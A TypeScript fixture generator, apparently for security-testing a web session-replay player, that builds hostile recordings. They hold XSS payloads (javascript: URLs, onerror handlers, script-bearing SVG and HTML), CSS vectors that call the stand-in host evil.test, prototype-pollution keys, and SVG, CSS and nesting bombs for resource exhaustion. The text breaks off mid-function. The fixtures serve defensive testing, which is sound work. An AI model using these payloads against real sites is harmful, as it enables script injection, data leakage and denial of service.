import { gzipSync } from 'node:zlib';
import { pngOf } from './rasters.ts';

/**
 * Recordings that nobody's recorder made, built from lists: what could run, fetch, navigate, submit, embed or hang, in every node and attribute
 * that could carry it. Whatever runs sets `HOSTILE_MARK` on every window that it reaches; whatever fetches asks `HOSTILE_HOST`.
 */
export const HOSTILE_MARK = '__hostile_ran';
export const HOSTILE_HOST = 'evil.test';

export type HostileRecording = {
  name: string;
  /** What is packed and uploaded; `events` where it is a list that a player could be given too. */
  packed: Buffer;
  events: unknown[] | null;
};

type Json = null | boolean | number | string | Json[] | { [name: string]: Json };
type Attributes = { [name: string]: Json };

const RUN = `try{top.${HOSTILE_MARK}=1}catch(e){};try{parent.${HOSTILE_MARK}=1}catch(e){};window.${HOSTILE_MARK}=1`;
const at = (n: string): string => `https://${HOSTILE_HOST}/${n}`;
const SVG_DOCUMENT = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${at('svg')}"/></svg>`;
const HTML_DOCUMENT = `<script>${RUN}</script><img src="${at('html')}" onerror="${RUN}">`;

const PAYLOADS: readonly string[] = [
  at('plain'),
  `//${HOSTILE_HOST}/relative`,
  `javascript:${RUN}`,
  ` \u0001java\tscript\n:${RUN}`,
  `data:text/html,${encodeURIComponent(HTML_DOCUMENT)}`,
  `data:image/svg+xml,${encodeURIComponent(SVG_DOCUMENT)}`,
  `blob:${at('blob')}`,
  `url(${at('css')})`,
  `0;url=${at('refresh')}`,
  `"><img src=x onerror="${RUN}">`,
  HTML_DOCUMENT,
  RUN,
];

const TAGS =
  'script noscript iframe frame frameset object embed applet base meta link style template portal fencedframe param source track img image picture video audio canvas input button form textarea select option a area map body html head title svg use animate set animateTransform animateMotion foreignObject feImage math maction annotation-xml mtext marquee bgsound dialog details slot x-custom isindex keygen plaintext xmp table td blockquote menuitem svg:script xlink:a'.split(
    ' ',
  );
const NAMES =
  'src srcset srcdoc href xlink:href data action formaction poster background cite ping manifest codebase classid archive code content http-equiv style onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onscroll autofocus is target usemap attributeName values to from by begin xml:base lowsrc dynsrc longdesc profile imagesrcset attributionsrc rr_dataURL rr_src rr_captured_src rr_mediaState rr_width _cssText nonce integrity sandbox allow name id class title value fill filter mask cursor clip-path xmlns shadowrootmode popovertarget commandfor contenteditable'.split(
    ' ',
  );

/** The page that changes refer to: its ids are what every crafted change names. */
const KNOWN = 'div img a form svg input style link iframe script button p'.split(' ');
const FIRST_KNOWN = 20;
const USES_IN = FIRST_KNOWN + KNOWN.indexOf('svg');
const FRAME = FIRST_KNOWN + KNOWN.indexOf('iframe');
let nextId = 100;
const fresh = (): number => {
  nextId += 1;
  return nextId;
};

const el = (tagName: string, attributes: Attributes = {}, childNodes: Json[] = [], more: Attributes = {}): Json => ({
  type: 2,
  id: fresh(),
  tagName,
  attributes,
  childNodes,
  ...more,
});
const text = (textContent: string, more: Attributes = {}): Json => ({ type: 3, id: fresh(), textContent, ...more });
const meta: Json = { type: 4, timestamp: 1000, data: { href: 'https://shop.test/', width: 800, height: 600 } };
const snapshot = (children: Json[], head: Json[] = []): Json => ({
  type: 2,
  timestamp: 1001,
  data: {
    node: {
      type: 0,
      id: 1,
      childNodes: [
        { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
        {
          type: 2,
          id: 3,
          tagName: 'html',
          attributes: {},
          childNodes: [
            { type: 2, id: 4, tagName: 'head', attributes: {}, childNodes: head },
            { type: 2, id: 5, tagName: 'body', attributes: {}, childNodes: children },
          ],
        },
      ],
    },
    initialOffset: { left: 0, top: 0 },
  },
});
const ordinary = (): Json =>
  snapshot(
    KNOWN.map((tagName, i) => ({
      type: 2,
      id: FIRST_KNOWN + i,
      tagName,
      attributes: {},
      childNodes: [{ type: 3, id: 60 + i, textContent: '' }],
      ...(tagName === 'svg' ? { isSVG: true } : {}),
    })),
  );
const later = (data: Attributes, timestamp = 1002): Json => ({ type: 3, timestamp, data });
const change = (data: Attributes): Json =>
  later({ source: 0, texts: [], attributes: [], removes: [], adds: [], ...data });
/** Pictures in which each refers `many` times to the one before. */
const pyramid = (levels: number, many: number): Json[] =>
  Array.from({ length: levels }, (_, i) =>
    el(
      'g',
      { id: `g${i}` },
      i === 0
        ? [el('rect', {}, [], { isSVG: true })]
        : Array.from({ length: many }, () => el('use', { href: `#g${i - 1}` }, [], { isSVG: true })),
      { isSVG: true },
    ),
  );
const part = (tagName: string, attributes: Attributes, inside: Json[] = []): Json =>
  el(tagName, attributes, inside, { isSVG: true });
/** What is drawn where an attribute names it. */
const DRAWN_BY_NAME: readonly [tag: string, attribute: string][] = [
  ['mask', 'mask'],
  ['clipPath', 'clip-path'],
  ['pattern', 'fill'],
  ['pattern', 'stroke'],
  ['marker', 'marker-end'],
  ['marker', 'marker-mid'],
];
/** How what is named there can be named. */
const NAMINGS: readonly [naming: string, name: (attribute: string, id: string) => Attributes][] = [
  ['by attributes', (attribute, id) => ({ [attribute]: `url(#${id})` })],
  ['by attributes with escapes', (attribute, id) => ({ [attribute]: `url(\\23${id})` })],
  [
    'by attributes in percents',
    (attribute, id) => ({ [attribute]: `url("#%${id.charCodeAt(0).toString(16)}${id.slice(1)}")` }),
  ],
  ['by styles', (attribute, id) => ({ style: `${attribute}:url(#${id})` })],
  ['by a style sheet', (_, id) => ({ class: `by-${id}` })],
];
/** Each refers `many` times to the one before: of as many levels nobody has drawn any. */
const resources = (tag: string, attribute: string, name: (attribute: string, id: string) => Attributes): Json[] => [
  ...Array.from({ length: 12 }, (_, i) =>
    part(
      tag,
      { id: `m${i}`, x: '0', y: '0', width: '90', height: '90', patternUnits: 'userSpaceOnUse', 'stroke-width': '9' },
      Array.from({ length: 8 }, (_, n) =>
        part('path', {
          d: `M${n} 0l90 0l0 90l-90 -${n}z`,
          stroke: '#fff',
          fill: '#fff',
          ...(i === 0 ? {} : name(attribute, `m${i - 1}`)),
        }),
      ),
    ),
  ),
  part('path', { d: 'M0 0l400 0l0 400l-400 0z', stroke: '#fff', 'stroke-width': '9', ...name(attribute, 'm11') }),
];
const namedBySheet = (attribute: string): Json =>
  el('style', { type: 'text/css' }, [
    {
      type: 3,
      id: fresh(),
      textContent: Array.from({ length: 12 }, (_, i) => `.by-m${i}{${attribute}:url(#m${i})}`).join(''),
      isStyle: true,
    },
  ]);
const picture = (inside: Json[]): Json => el('svg', {}, inside, { isSVG: true });
type Plain = { id: number; tagName: string; attributes: Attributes; childNodes: Plain[] };
/** As a page tells of what is added to it; with `isLate`, what it refers to afterwards. */
function oneByOne(inside: Json[], parentId: number, isLate = false): Json[] {
  const told: Json[] = [];
  const late: Json[] = [];
  const tell = (node: Plain, parent: number): void => {
    const { href, ...others } = node.attributes;
    const attributes = isLate ? others : node.attributes;
    told.push(
      change({ adds: [{ parentId: parent, nextId: null, node: { ...node, attributes, childNodes: [] } as Json }] }),
    );
    if (isLate && href !== undefined) late.push(change({ attributes: [{ id: node.id, attributes: { href } }] }));
    for (const child of node.childNodes) tell(child, node.id);
  };
  for (const one of inside) tell(one as unknown as Plain, parentId);
  return [...told, ...late];
}
/** Makes the player lay the page out. */
const scrolled: Json = { type: 3, timestamp: 1100, data: { source: 3, id: 1, x: 0, y: 10 } };
/** What is written into a frame. */
const inner = (body: Json[]): Json => ({
  type: 0,
  id: fresh(),
  childNodes: [el('html', {}, [el('head'), el('body', {}, body)])],
});
const end: Json = { type: 3, timestamp: 1500, data: { source: 3, id: 1, x: 0, y: 0 } };

const everyAttribute = (payload: string): Attributes => ({
  ...Object.fromEntries(NAMES.map((name) => [name, payload])),
  'http-equiv': 'refresh',
  attributeName: 'href',
  rel: 'stylesheet',
});
/** Little to say, and much to draw. */
function costlyDrawings(): [string, string][] {
  const drawing = (inside: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><rect id="l0" width="90" height="90"/>${inside}</svg>`;
  const levels = (make: (level: number) => string) =>
    drawing(Array.from({ length: 9 }, (_, n) => make(n + 1)).join(''));
  return [
    ['copies of copies', levels((n) => `<g id="l${n}">${`<use href="#l${n - 1}"/>`.repeat(20)}</g>`)],
    [
      'masks of masks',
      levels(
        (n) => `<mask id="l${n}">${`<rect width="4000" height="4000" mask="url(#l${n - 1})"/>`.repeat(20)}</mask>`,
      ),
    ],
    [
      'masks by other names',
      levels(
        (n) =>
          `<mask id="l${n}">${`<rect width="4000" height="4000" style="m\\61sk:url(#l${n - 1});-webkit-mask/**/-image:url(#l${n - 1})"/>`.repeat(20)}</mask>`,
      ),
    ],
    [
      'noise',
      drawing(
        '<filter id="f" x="0" y="0" width="1" height="1"><feTurbulence baseFrequency="9" numOctaves="1000000"/></filter><rect width="4000" height="4000" filter="url(#f)"/>',
      ),
    ],
    [
      'what moves without end',
      drawing(
        `<g><animateTransform attributeName="transform" type="rotate" from="0" to="360" dur=".1s" repeatCount="indefinite"/>${'<circle r="2000" cx="2000" cy="2000" fill-opacity=".1"/>'.repeat(400)}</g>`,
      ),
    ],
  ];
}

/** Little to read, and much to try on each of so many elements. */
const costlySheets = (): [name: string, css: string, many: number][] => [
  ['after each other', `${'b~i '.repeat(40).replaceAll(' ', '~')}i{top:0}`.repeat(200), 20_000],
  ['below what has something after it', ':has(~ i ~ b){top:0} :has(~ i + i ~ b){left:0}', 20_000],
  [
    'counted among others',
    Array.from({ length: 50 }, (_, n) => `:nth-last-child(${n}n+1 of i:not(b)){top:${n}px}`).join(''),
    20_000,
  ],
  ['for everything', '*{top:0}'.repeat(29_000), 20_000],
  ['for everything of a name', 'i{top:0}'.repeat(29_000), 20_000],
];

const svgOf = (tag: string): Attributes =>
  /^(?:svg|use|animate|set|image|fe|foreign|xlink|a$)/.test(tag) ? { isSVG: true } : {};

const CSS: readonly string[] = [
  `@import url(${at('i1')});`,
  `@import "//${HOSTILE_HOST}/i2" screen;`,
  `@\\69mport "//${HOSTILE_HOST}/i3";`,
  `@im/**/port "//${HOSTILE_HOST}/i4";`,
  `@charset "x";@import '//${HOSTILE_HOST}/i5'`,
  `p{background:url(${at('b1')})}`,
  `p{background:url( "${at('b2')}" )}`,
  `p{background:\\75rl(${at('b3')})}`,
  `p{background:u\\rl(//${HOSTILE_HOST}/b4)}`,
  `p{background:URL(//${HOSTILE_HOST}/b5`,
  `p{background:image-set("//${HOSTILE_HOST}/s1" 1x)}`,
  `p{background:-webkit-image-set(url(${at('s2')}) 1x)}`,
  `p{background:cross-fade(url(${at('s3')}),red)}`,
  `p{list-style:url(${at('l1')});cursor:url(${at('l2')}),auto}`,
  `p{border-image:url(${at('l3')}) 1;mask:url(${at('l4')});filter:url(${at('l5')}#a)}`,
  `p{--x:url(${at('v1')});background:var(--x)}`,
  `p{content:url(${at('c1')});shape-outside:url(${at('c2')})}`,
  `@font-face{font-family:e;src:url(${at('f1')})}p{font-family:e}`,
  `@font-face{font-family:e;src:src("${at('f2')}")}p{font-family:e}`,
  `@namespace url(${at('n1')});@document url(${at('n2')}){p{top:0}}`,
  `@media all{@supports(top:0){p{background:url(${at('m1')})}}}`,
  `input[value^="a"]{background:url(${at('x1')})}`,
  `p{width:expression(${RUN});behavior:url(${at('e1')});-moz-binding:url(${at('e2')})}`,
  `</style><script>${RUN}</script><img src=x onerror="${RUN}">`,
  `<!--@import url(${at('h1')});-->p{background:url(${at('h2')})}`,
  `p{background:url("data:image/svg+xml,${encodeURIComponent(SVG_DOCUMENT)}")}`,
  `a:hover{}`.repeat(20_000),
  `${'{'.repeat(20_000)}`,
  `${'p{a:('.repeat(4000)}`,
  `*{animation:x 0s infinite;transition:all 0s}${'p '.repeat(5000)}{top:0}`,
  `${':is('.repeat(2000)}p${')'.repeat(2000)}{top:0}`,
  `p{top:${'calc('.repeat(3000)}1px${')'.repeat(3000)}}`,
  `@property --p{syntax:"<url>";inherits:false;initial-value:url(${at('p1')})}`,
  `\\\n@import\\20 url(${at('i6')});`,
];

const JSON_KINDS: readonly Json[] = [
  null,
  true,
  -1,
  1e308,
  '7',
  '',
  [],
  [[]],
  {},
  { length: 3 },
  { toString: 'x', valueOf: 'y' },
  'x'.repeat(100_000),
];

const packed = (value: unknown): Buffer => gzipSync(typeof value === 'string' ? value : JSON.stringify(value));
const recording = (name: string, ...events: Json[]): HostileRecording => ({ name, packed: packed(events), events });
const bytes = (name: string, raw: Buffer): HostileRecording => ({ name, packed: raw, events: null });

/** All of them, each once, always the same. */
export function hostileRecordings(): HostileRecording[] {
  nextId = 100;
  return [...elements(), ...attributes(), ...styles(), ...shapes(), ...orders(), ...bombs()];
}

/** Every element with every attribute at every payload: in the first picture, added later, in a shadow root, in a picture. */
function elements(): HostileRecording[] {
  return TAGS.flatMap((tag) => {
    const all = () => PAYLOADS.map((payload) => el(tag, everyAttribute(payload), [text(payload)], svgOf(tag)));
    const nested = PAYLOADS.slice(0, 6).map((payload) =>
      el(tag, everyAttribute(payload), [el('img', { src: at('in') })]),
    );
    return [
      recording(`<${tag}> in the page`, meta, snapshot(all()), end),
      recording(`<${tag}> in its head`, meta, snapshot([], all()), end),
      recording(
        `<${tag}> added later`,
        meta,
        ordinary(),
        change({ adds: all().map((node) => ({ parentId: 5, nextId: null, node })) }),
        end,
      ),
      recording(
        `<${tag}> in a shadow root and in a picture`,
        meta,
        snapshot([
          el(
            'x-host',
            {},
            nested.map((node) => ({ ...(node as Attributes), isShadow: true })),
            { isShadowHost: true },
          ),
          el('svg', {}, [el('foreignObject', {}, nested, { isSVG: true })], { isSVG: true }),
        ]),
        end,
      ),
    ];
  });
}

/** Every attribute at every payload on every element that is there already. */
function attributes(): HostileRecording[] {
  return NAMES.map((name) =>
    recording(
      `${name} set later`,
      meta,
      ordinary(),
      change({
        attributes: KNOWN.flatMap((_, i) =>
          [...PAYLOADS, { x: at('object') }, [at('list')], 7, true].map((value) => ({
            id: FIRST_KNOWN + i,
            attributes: { [name]: value as Json, [name.toUpperCase()]: value as Json, [` ${name}`]: value as Json },
          })),
        ),
      }),
      end,
    ),
  );
}

/** Every style sheet by every way that one comes. */
function styles(): HostileRecording[] {
  return CSS.flatMap((css, n) => [
    recording(
      `style sheet ${n} in the page`,
      meta,
      snapshot(
        [el('p', { style: css }, [text('x')])],
        [
          el('style', {}, [text(css, { isStyle: true })]),
          el('style', { _cssText: css }),
          el('link', { rel: 'stylesheet', href: at('sheet'), _cssText: css }),
        ],
      ),
      end,
    ),
    recording(
      `style sheet ${n} later`,
      meta,
      ordinary(),
      later({ source: 8, id: FIRST_KNOWN + 6, adds: [{ rule: css, index: 0 }], replace: css, replaceSync: css }),
      later({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: css, index: 0 }] }] }),
      later({ source: 13, id: FIRST_KNOWN + 6, index: [0], set: { property: 'background', value: css } }),
      change({
        texts: [{ id: 66, value: css }],
        attributes: [{ id: 20, attributes: { style: { background: css, '--x': [css, 'important'] } } }],
        adds: [{ parentId: FIRST_KNOWN + 6, nextId: null, node: text(css) }],
      }),
      end,
    ),
  ]);
}

/** Wrong types, wherever there is a type. */
function shapes(): HostileRecording[] {
  const FIELDS = ['id', 'type', 'tagName', 'attributes', 'childNodes', 'textContent', 'isShadowHost', 'rootId'];
  const DATA = 'source positions adds removes texts attributes ranges styleIds styles index set text x id width'.split(
    ' ',
  );
  return [
    ...FIELDS.map((field) =>
      recording(
        `a node whose ${field} is anything`,
        meta,
        snapshot(JSON_KINDS.map((value) => ({ ...(el('p', {}, [text('x')]) as Attributes), [field]: value }))),
        end,
      ),
    ),
    ...DATA.map((field) =>
      recording(
        `a change whose ${field} is anything`,
        meta,
        ordinary(),
        ...[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16].flatMap((source) =>
          JSON_KINDS.map((value) => later({ source, id: 20, [field]: value })),
        ),
        end,
      ),
    ),
    ...JSON_KINDS.map((value, n) => recording(`an event that is ${n}`, meta, ordinary(), value, end)),
    ...['timestamp', 'type', 'data'].map((field) =>
      recording(
        `an event whose ${field} is anything`,
        meta,
        ordinary(),
        ...JSON_KINDS.map((value) => ({ ...(end as Attributes), [field]: value })),
      ),
    ),
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'].map((name) => {
      const raw = JSON.stringify([
        meta,
        ordinary(),
        change({ attributes: [{ id: 20, attributes: { KEY: 'x' } }] }),
        end,
      ]);
      const poisoned = raw.replaceAll('"KEY":"x"', `"${name}":{"${HOSTILE_MARK}":1},"style":{"${name}":"x"}`);
      return { name: `a name that is ${name}`, packed: packed(poisoned), events: JSON.parse(poisoned) as unknown[] };
    }),
  ];
}

/** Ids, parents and times that cannot be. */
function orders(): HostileRecording[] {
  const node = (id: number): Json => ({ type: 2, id, tagName: 'p', attributes: {}, childNodes: [] });
  const adds = (...list: Attributes[]) => change({ adds: list });
  const many = 5000;
  return [
    recording('changes before any page', change({ removes: [{ id: 20, parentId: 5 }] }), meta, ordinary(), end),
    recording('no page at all', meta, end),
    recording('two pages at once', meta, ordinary(), ordinary(), end),
    recording('the end before the beginning', end, ordinary(), meta),
    recording('its own parent', meta, ordinary(), adds({ parentId: 900, nextId: null, node: node(900) }), end),
    recording(
      'each other’s parent',
      meta,
      ordinary(),
      adds({ parentId: 901, nextId: null, node: node(900) }, { parentId: 900, nextId: null, node: node(901) }),
      end,
    ),
    recording(
      'next to itself',
      meta,
      ordinary(),
      adds({ parentId: 5, nextId: 900, previousId: 900, node: node(900) }),
      end,
    ),
    recording(
      'below what is not there',
      meta,
      ordinary(),
      adds({ parentId: 12345, nextId: null, node: node(900) }),
      end,
    ),
    recording(
      'the document below its body',
      meta,
      ordinary(),
      adds({ parentId: 20, nextId: null, node: node(1) }),
      end,
    ),
    recording('one id for all', meta, snapshot(Array.from({ length: 500 }, () => node(7))), end),
    recording('the body taken out', meta, ordinary(), change({ removes: [{ id: 5, parentId: 3 }] }), end),
    recording(
      'everything taken out twice',
      meta,
      ordinary(),
      change({ removes: [1, 2, 3, 4, 5, 5, 20, 20].map((id) => ({ id, parentId: 1 })) }),
      end,
    ),
    recording(
      'a chain that is added backwards',
      meta,
      ordinary(),
      adds(...Array.from({ length: many }, (_, i) => ({ parentId: 5, nextId: 1000 + i + 1, node: node(1000 + i) }))),
      end,
    ),
    recording(
      'a chain of parents that is added backwards',
      meta,
      ordinary(),
      adds(...Array.from({ length: 1000 }, (_, i) => ({ parentId: 1000 + i + 1, nextId: null, node: node(1000 + i) }))),
      end,
    ),
    recording('a day between two events', meta, ordinary(), { ...(end as Attributes), timestamp: 86_400_000 }),
    recording('a thousand years between two events', meta, ordinary(), { ...(end as Attributes), timestamp: 3.2e13 }),
    recording('the end of time', meta, ordinary(), { ...(end as Attributes), timestamp: Number.MAX_VALUE }),
    recording('before time', meta, ordinary(), { ...(end as Attributes), timestamp: -1 }),
    recording(
      'all at once',
      meta,
      ordinary(),
      ...Array.from({ length: 3000 }, () => ({ ...(end as Attributes), timestamp: 1001 })),
    ),
    recording(
      'a mouse that moves for ever',
      meta,
      ordinary(),
      later({
        source: 1,
        positions: Array.from({ length: 50_000 }, (_, i) => ({ x: i, y: i, id: 20, timeOffset: -i * 1e6 })),
      }),
      end,
    ),
    recording(
      'a page of no size',
      { ...(meta as Attributes), data: { href: '', width: 0, height: -5 } },
      ordinary(),
      end,
    ),
    recording(
      'a page of any size',
      { ...(meta as Attributes), data: { href: at('m'), width: 1e15, height: 1e15 } },
      ordinary(),
      end,
    ),
    recording(
      'resized without end',
      meta,
      ordinary(),
      ...Array.from({ length: 2000 }, (_, i) => later({ source: 4, width: i * 1e6, height: 1e9 })),
    ),
    recording('a thousand pages', meta, ...Array.from({ length: 1000 }, () => ordinary()), end),
    recording(
      'plugins and custom events',
      meta,
      ordinary(),
      ...[5, 6].map((type) => ({
        type,
        timestamp: 1100,
        data: { plugin: 'rrweb/canvas-webrtc@1', tag: 'x', payload: { src: at('plugin'), html: HTML_DOCUMENT } },
      })),
      end,
    ),
    recording(
      'canvases, films and fonts',
      meta,
      ordinary(),
      ...[7, 9, 10, 11].map((source) =>
        later({
          source,
          id: 20,
          type: 0,
          currentSrc: at('film'),
          fontSource: at('font'),
          commands: [{ property: 'eval', args: [RUN] }],
        }),
      ),
      end,
    ),
    recording(
      'the document of an inner frame',
      meta,
      ordinary(),
      change({
        isAttachIframe: true,
        adds: [
          {
            parentId: 28,
            nextId: null,
            node: { type: 0, id: 950, childNodes: [el('script', { src: at('frame') }, [text(RUN)])] },
          },
        ],
      }),
      end,
    ),
    recording(
      'a frame that is sent elsewhere',
      meta,
      ordinary(),
      change({ isAttachIframe: true, adds: [{ parentId: FRAME, nextId: null, node: inner([text('inside')]) }] }),
      ...['src', 'srcdoc', 'sandbox', 'csp', 'allow', 'name', 'SRC'].flatMap((name) =>
        [
          at('elsewhere'),
          `data:image/svg+xml,${encodeURIComponent(SVG_DOCUMENT)}`,
          `javascript:${RUN}`,
          HTML_DOCUMENT,
        ].map((value) => change({ attributes: [{ id: FRAME, attributes: { [name]: value } }] })),
      ),
      change({ isAttachIframe: true, adds: [{ parentId: FRAME, nextId: null, node: inner([text('again')]) }] }),
      end,
    ),
    recording(
      'documents in what is no frame',
      meta,
      ordinary(),
      ...KNOWN.map((_, i) =>
        change({
          isAttachIframe: true,
          adds: [{ parentId: FIRST_KNOWN + i, nextId: null, node: inner([el('img', { src: at('x'), onerror: RUN })]) }],
        }),
      ),
      change({ isAttachIframe: true, adds: [{ parentId: 1, nextId: null, node: inner([text('x')]) }] }),
      change({ isAttachIframe: true, adds: [{ parentId: 99_999, nextId: null, node: inner([text('x')]) }] }),
      end,
    ),
    recording('thousands of frames', meta, snapshot(Array.from({ length: 20_000 }, () => el('iframe'))), end),
    recording(
      'thousands of frames later',
      meta,
      ordinary(),
      ...Array.from({ length: 5_000 }, () => change({ adds: [{ parentId: 5, nextId: null, node: el('iframe') }] })),
      end,
    ),
    recording(
      'a frame in a frame, and so on',
      meta,
      ordinary(),
      ...Array.from({ length: 300 }, (_, i) =>
        change({
          isAttachIframe: true,
          adds: [
            {
              parentId: i === 0 ? FRAME : 200_000 + i - 1,
              nextId: null,
              node: inner([{ type: 2, id: 200_000 + i, tagName: 'iframe', attributes: {}, childNodes: [] }]),
            },
          ],
        }),
      ),
      end,
    ),
    recording(
      'a frame’s document, again and again',
      meta,
      ordinary(),
      ...Array.from({ length: 2_000 }, () =>
        change({ isAttachIframe: true, adds: [{ parentId: FRAME, nextId: null, node: inner([text('x')]) }] }),
      ),
      end,
    ),
    recording(
      'instructions, sections and types',
      meta,
      snapshot([
        { type: 4, id: 960, textContent: HTML_DOCUMENT },
        { type: 1, id: 961, name: HTML_DOCUMENT, publicId: at('dtd'), systemId: at('dtd') },
        { type: 5, id: 962, textContent: `--><script>${RUN}</script>` },
        { type: 7, id: 963, target: 'xml-stylesheet', data: `href="${at('pi')}"`, textContent: at('pi') },
        { type: 9, id: 964, childNodes: [el('script', {}, [text(RUN)])] },
        { type: 11, id: 965, childNodes: [el('script', {}, [text(RUN)])] },
      ]),
      end,
    ),
  ];
}

/** Too deep, too wide, too long, and packed to be more than they look. */
function bombs(): HostileRecording[] {
  const deep = (levels: number, tagName: string): string =>
    `{"type":2,"id":30,"tagName":"${tagName}","attributes":{},"childNodes":[`.repeat(levels) + ']}'.repeat(levels);
  const inPage = (children: string) =>
    JSON.stringify([meta, snapshot(['HERE']), end]).replace('"HERE"', () => children);
  const raw = (name: string, json: string): HostileRecording => ({
    name,
    packed: packed(json),
    events: json.length < 12_000_000 ? (JSON.parse(json) as unknown[]) : null,
  });
  const wide = (nodes: number) =>
    Array.from(
      { length: nodes },
      (_, i) => `{"type":2,"id":${1000 + i},"tagName":"b","attributes":{},"childNodes":[]}`,
    ).join(',');
  return [
    ...[700, 2000, 20_000].flatMap((levels) =>
      ['div', 'table', 'b', 'svg'].map((tag) => raw(`${levels} levels of ${tag}`, inPage(deep(levels, tag)))),
    ),
    ...[50_000, 100_000, 200_000].map((nodes) => raw(`${nodes} elements`, inPage(wide(nodes)))),
    raw('a list in a list, for ever', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    raw('a million nothings', `[${'{},'.repeat(999_999)}{}]`),
    recording('one text of millions', meta, snapshot([el('p', {}, [text('a '.repeat(3_000_000))])]), end),
    recording('one word of millions', meta, snapshot([el('p', {}, [text('a'.repeat(6_000_000))])]), end),
    recording('one attribute of millions', meta, snapshot([el('p', { title: '4 '.repeat(3_000_000) }, [])]), end),
    recording('one class of millions', meta, snapshot([el('p', { class: 'a1 '.repeat(2_000_000) }, [])]), end),
    recording(
      'attributes by the thousand',
      meta,
      snapshot([el('p', Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`data-a${i}`, 'x'])))]),
      end,
    ),
    recording(
      'one style sheet of millions',
      meta,
      snapshot([], [el('style', { _cssText: '.a:hover{top:0}'.repeat(300_000) })]),
      end,
    ),
    recording(
      'a path of millions',
      meta,
      snapshot([
        el('svg', {}, [el('path', { d: `M0 0${'l1 1'.repeat(1_000_000)}` }, [], { isSVG: true })], { isSVG: true }),
      ]),
      end,
    ),
    recording(
      'filters upon filters',
      meta,
      snapshot([
        el(
          'svg',
          {},
          [
            el(
              'filter',
              { id: 'f' },
              Array.from({ length: 2000 }, () => el('feGaussianBlur', { stdDeviation: '999' }, [], { isSVG: true })),
              { isSVG: true },
            ),
            el('rect', { filter: 'url(#f)', width: '9999', height: '9999' }, [], { isSVG: true }),
          ],
          { isSVG: true },
        ),
      ]),
      end,
    ),
    recording(
      'uses of uses',
      meta,
      snapshot([
        el(
          'svg',
          {},
          Array.from({ length: 25 }, (_, i) =>
            el(
              'g',
              { id: `g${i}` },
              i === 0
                ? [el('rect', {}, [], { isSVG: true })]
                : Array.from({ length: 10 }, () => el('use', { href: `#g${i - 1}` }, [], { isSVG: true })),
              { isSVG: true },
            ),
          ),
          { isSVG: true },
        ),
      ]),
      end,
    ),
    recording('uses of uses, told one by one', meta, ordinary(), ...oneByOne(pyramid(12, 6), USES_IN), end),
    recording(
      'uses whose address comes later',
      meta,
      ordinary(),
      ...oneByOne(pyramid(12, 6), USES_IN, true),
      scrolled,
      end,
    ),
    recording(
      'uses in a shadow tree',
      meta,
      snapshot([
        el('div', {}, [{ ...(picture(pyramid(14, 8)) as object), isShadow: true }], { isShadowHost: true }),
        el('div', {}, [{ ...(picture(pyramid(14, 8)) as object), isShadow: true }], { isShadowHost: true }),
      ]),
      scrolled,
      end,
    ),
    recording(
      'thousands of uses of thousands',
      meta,
      snapshot([
        picture([
          el(
            'g',
            { id: 'g0' },
            Array.from({ length: 5000 }, () => el('rect', {}, [], { isSVG: true })),
            { isSVG: true },
          ),
          ...Array.from({ length: 5000 }, () => el('use', { href: '#g0' }, [], { isSVG: true })),
        ]),
      ]),
      scrolled,
      end,
    ),
    ...DRAWN_BY_NAME.flatMap(([tag, attribute]) => [
      ...NAMINGS.map(([naming, name]) =>
        recording(
          `${tag} of ${tag} in ${attribute}, ${naming}`,
          meta,
          snapshot([namedBySheet(attribute), picture(resources(tag, attribute, name))]),
          scrolled,
          end,
        ),
      ),
      recording(
        `${tag} of ${tag} in ${attribute}, told one by one`,
        meta,
        ordinary(),
        ...oneByOne(resources(tag, attribute, (NAMINGS[0] as (typeof NAMINGS)[number])[1]), USES_IN),
        scrolled,
        end,
      ),
    ]),
    recording(
      'pattern of pattern in what it stands in',
      meta,
      snapshot([
        picture([
          ...Array.from({ length: 12 }, (_, i) =>
            part('g', i === 0 ? {} : { fill: `url(#m${i - 1})` }, [
              part(
                'pattern',
                { id: `m${i}`, width: '90', height: '90', patternUnits: 'userSpaceOnUse' },
                Array.from({ length: 8 }, (__, n) => part('path', { d: `M${n} 0l90 0l0 90l-90 -${n}z` })),
              ),
            ]),
          ),
          part('path', { d: 'M0 0l400 0l0 400l-400 0z', fill: 'url(#m11)' }),
        ]),
      ]),
      scrolled,
      end,
    ),
    recording(
      'mask of mask in a sheet that hands it down',
      meta,
      snapshot([
        el('style', {}, [text('g *{mask:inherit}', { isStyle: true })]),
        picture([
          ...Array.from({ length: 12 }, (_, i) =>
            part('mask', { id: `m${i}` }, [
              part(
                'g',
                i === 0 ? {} : { mask: `url(#m${i - 1})` },
                Array.from({ length: 8 }, () => part('rect', { width: '300', height: '300', fill: '#fff' })),
              ),
            ]),
          ),
          part('rect', { width: '300', height: '300', mask: 'url(#m11)' }),
        ]),
      ]),
      scrolled,
      end,
    ),
    ...['attributes', 'sheets'].map((naming) =>
      recording(
        `effects of effects in ${naming}`,
        meta,
        snapshot([
          el('style', {}, [text(naming === 'sheets' ? 'rect,div{filter:url(#f)}' : 'p{}', { isStyle: true })]),
          picture([
            part(
              'filter',
              { id: 'f', x: '-9', y: '-9', width: '20', height: '20' },
              Array.from({ length: 300 }, () => part('feGaussianBlur', { stdDeviation: '1000000' })),
            ),
            ...Array.from({ length: 300 }, () =>
              part('rect', { width: '700', height: '500', ...(naming === 'sheets' ? {} : { filter: 'url(#f)' }) }),
            ),
          ]),
        ]),
        scrolled,
        end,
      ),
    ),
    recording(
      'a picture of an element in an effect on it, and so on',
      meta,
      snapshot([
        picture(
          Array.from({ length: 12 }, (_, i) => [
            part(
              'filter',
              { id: `f${i}` },
              Array.from({ length: 6 }, () => part('feImage', { href: `#e${i - 1}` })),
            ),
            part('g', { id: `e${i}` }, [part('rect', { width: '300', height: '300', filter: `url(#f${i})` })]),
          ]).flat(),
        ),
      ]),
      scrolled,
      end,
    ),
    ...costlySheets().map(([name, css, many]) =>
      recording(
        `selectors: ${name}`,
        meta,
        snapshot(
          [
            el(
              'div',
              {},
              Array.from({ length: many }, () => el('i')),
            ),
          ],
